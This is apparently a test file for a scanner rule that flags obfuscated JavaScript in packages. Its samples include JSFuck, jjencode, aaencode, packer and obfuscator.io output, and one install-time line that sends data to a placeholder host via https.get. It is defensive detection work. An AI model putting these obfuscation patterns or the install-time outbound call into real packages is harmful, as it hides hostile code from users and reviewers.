import { readFileSync } from 'node:fs'
import rule from '../../rules/obfuscated-code.ts'
import { RuleTester } from '../../src/rule-tester/index.ts'

const fixture = (name: string) => readFileSync(new URL(`../../fixtures/obfuscation/${name}`, import.meta.url), 'utf8')

/** JSFuck-style text: only []()!+ (here `'a'` thirty times over). */
const jsfuck = `console.log(${Array(30).fill('(![]+[])[+!+[]]').join('+')})`
/** The public jjencode preamble: `$` and `_` names and punctuation only. */
const jjencode =
  '$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$],_$$:++$,$$$_:(!""+"")[$],$__:++$,$_$:++$,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$,$__$:++$};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$])+((!$)+"")[$._$$]+($.__=$.$_[$.$$_])+($.$=(!""+"")[$.__$])+($._=(!""+"")[$._$_])+$.$_[$.$_$]+$.__+$._$+$.$;'
/** The aaencode preamble, kept in a string. */
const aaencode = `const s = "${'ﾟωﾟﾉ= /｀ｍ´）ﾉ ~┻━┻   //*´∇｀*/ [\'_\']; o=(ﾟｰﾟ)  =_=3; c=(ﾟΘﾟ) =(ﾟｰﾟ)-(ﾟｰﾟ); (ﾟДﾟ) =(ﾟΘﾟ)= (o^_^o)/ (o^_^o); '.repeat(3).replace(/"/g, '\\"')}"`
const minifiedBundle = `/*! bundle v1.0.0 | MIT License */\n!function(e,t){"object"==typeof exports?module.exports=t():e.lib=t()}(this,function(){var n={};function __webpack_require__(r){return n[r]}${'var a=!0,b=!1,c="\\x41\\x42";'.repeat(2000)}return __webpack_require__});\n//# sourceMappingURL=lib.min.js.map`

new RuleTester().run(rule, {
  valid: [
    { name: 'ordinary code', code: "const fs = require('fs')\nmodule.exports = () => fs.readFileSync('x', 'utf8')" },
    { name: 'a few _0x names', code: 'const _0x1f2e = 0x1f2e, _0xabcd = 2\nmodule.exports = _0x1f2e + _0xabcd' },
    { name: 'a queue rotated in ordinary code', code: 'const q = [1, 2, 3]\nfunction turn() { q.push(q.shift()) }\nmodule.exports = turn' },
    { name: "lodash's global getter", code: "var root = Function('return this')()\nmodule.exports = root" },
    { name: 'a minified webpack bundle with licence header and source map', code: minifiedBundle },
    { name: 'a long single-line file that nothing runs', files: { 'test/fixture.js': `var x=${JSON.stringify('y'.repeat(60_000))};` } },
    { name: 'a long single line with a licence header', installTime: true, code: `/*! tiny v1 (c) someone */var x=${JSON.stringify('y'.repeat(60_000))};` },
  ],
  invalid: [
    {
      name: 'obfuscator.io default output in the main file',
      code: fixture('obfuscator-io-default.js'),
      errors: [{ severity: 'high', message: /obfuscator\.io-style obfuscation: \d+ `_0x…` identifiers, a string array rotated by a checksum loop.*child_process/ }],
    },
    {
      name: 'obfuscator.io with RC4-encoded strings, run at install time',
      code: fixture('obfuscator-io-rc4.js'),
      installTime: true,
      errors: [{ severity: 'high', message: /strings decoded \(.*"https".*\).*It runs at install time \(postinstall\)/ }],
    },
    {
      name: 'obfuscator.io with mangled (short) names is recognised by its shape',
      code: fixture('obfuscator-io-mangled.js'),
      errors: [{ severity: 'high', message: /a string array rotated by a checksum loop/ }],
    },
    {
      name: 'obfuscator.io without dangerous modules in a file nothing loads',
      files: { 'lib/x.js': "var _0x1a2b=['log','hello'];(function(_0x3c4d,_0x5e6f){while(--_0x5e6f){_0x3c4d['push'](_0x3c4d['shift']());}}(_0x1a2b,0x1));var _0x7a8b=function(_0x9c0d){_0x9c0d=_0x9c0d-0x0;return _0x1a2b[_0x9c0d];};var _0x11aa=!![],_0x22bb=![],_0x33cc=![];console[_0x7a8b('0x0')](_0x7a8b('0x1'));" },
      errors: [{ severity: 'medium', file: 'lib/x.js', message: /obfuscator\.io-style obfuscation/ }],
    },
    { name: 'JSFuck', code: jsfuck, errors: [{ severity: 'high', message: /^JSFuck-encoded code/ }] },
    { name: 'jjencode', code: jjencode, errors: [{ severity: 'high', message: /^jjencode-encoded code/ }] },
    { name: 'aaencode', code: aaencode, errors: [{ severity: 'high', message: /^aaencode-encoded code/ }] },
    { name: 'aaencode in a file nothing loads', files: { 'docs/demo.js': aaencode }, errors: [{ severity: 'medium' }] },
    {
      name: "Dean Edwards' packer",
      code: "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0',1,1,''.split('|'),0,{}))",
      errors: [{ severity: 'high', message: /^Packer-encoded code/ }],
    },
    {
      name: 'obfuscator.io names in a file that does not parse',
      code: `function (\n${Array.from({ length: 25 }, (_, i) => `var _0x${(0x1a2b + i).toString(16)}=${i};`).join('')}`,
      errors: [{ severity: 'medium', message: /25 `_0x…` identifiers in a file the parser could not read/ }],
    },
    {
      name: 'an install script squeezed onto one 60 KB line',
      installTime: true,
      code: `var x=${JSON.stringify('y'.repeat(60_000))};require('https').get('https://x.invalid/'+x)`,
      errors: [{ severity: 'medium', message: /^Minified payload: index\.js is \d+ KB on a single line/ }],
    },
  ],
})
